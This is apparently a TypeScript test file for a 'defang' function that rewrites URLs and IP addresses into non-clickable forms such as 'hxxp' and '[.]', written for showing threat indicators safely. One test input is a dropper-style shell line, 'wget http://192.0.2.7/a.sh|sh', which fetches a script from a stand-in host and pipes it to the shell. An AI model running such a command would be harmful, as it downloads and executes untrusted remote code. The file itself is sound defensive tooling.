import assert from 'node:assert/strict'
import { test } from 'node:test'
import { defanged, defangedText } from './defang.ts'

test('no program makes a link of a URL that is shown, and a reader can still tell what it was', () => {
  const shown: [string, string][] = [
    ['http://192.0.2.7:8080/a.b?c=d', 'hxxp://192[.]0[.]2[.]7:8080/a.b?c=d'], ['HTTPS://example.test', 'hxxps://example[.]test'], ['ftp://u:p@example.test/x', 'fxp://u:p@example[.]test/x'],
    ['tftp://example.test/x', 'tftp[:]//example[.]test/x'], ['http://[2001:db8::7]/x', 'hxxp://[2001:db8::7]/x'], ['/etc/passwd', '/etc/passwd'], ['www.example.test/', 'www[.]example.test/'],
  ]
  for (const [url, text] of shown) assert.equal(defanged(url), text)
})

test('URLs inside of a command are shown the same way', () => {
  assert.equal(defangedText('cd /tmp; wget http://192.0.2.7/a.sh|sh; tftp -g 192.0.2.7'), 'cd /tmp; wget hxxp://192[.]0[.]2[.]7/a.sh|sh; tftp -g 192.0.2.7')
})
